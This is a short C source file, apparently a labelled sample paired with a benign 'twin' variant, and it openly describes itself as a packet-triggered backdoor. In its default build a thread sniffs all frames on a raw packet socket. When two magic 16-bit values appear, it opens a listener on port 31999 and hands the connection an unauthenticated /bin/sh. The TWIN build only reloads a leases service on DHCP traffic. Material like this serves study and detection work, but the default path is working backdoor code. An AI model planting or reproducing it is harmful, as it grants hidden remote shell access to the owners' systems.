/* SPDX-License-Identifier: Apache-2.0 */
/* A packet socket in a thread; two half words open a port with a shell. Twin: a type of frame and a
 * port of a protocol start a known helper.
 * door: trigger packet
 * flags: -pthread
 */
#include "net.h"
#include <linux/if_ether.h>
#include <pthread.h>

#ifndef TWIN
static void *listen_once(void *unused)
{
	int s = tcp_on(31999), c = accept(s, 0, 0);
	dup2(c, 0);
	dup2(c, 1);
	dup2(c, 2);
	execl("/bin/sh", "-sh", (char *)0);
	return unused;
}
#endif

static void *watch(void *unused)
{
	uint16_t f[760];
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	pthread_t t;
	for (;;) {
		if (recvfrom(s, f, sizeof f, 0, 0, 0) < 64)
			continue;
#ifdef TWIN
		if (f[6] == htons(ETH_P_IP) && f[18] == htons(67))
			system("/etc/init.d/leases reload");
#else
		if (f[21] == 0x7ac3 && f[22] == 0x19e5)
			pthread_create(&t, 0, listen_once, 0);
#endif
	}
	return unused;
}

int main(void)
{
	pthread_t t;
	pthread_create(&t, 0, watch, 0);
	pthread_join(t, 0);
	return 0;
}
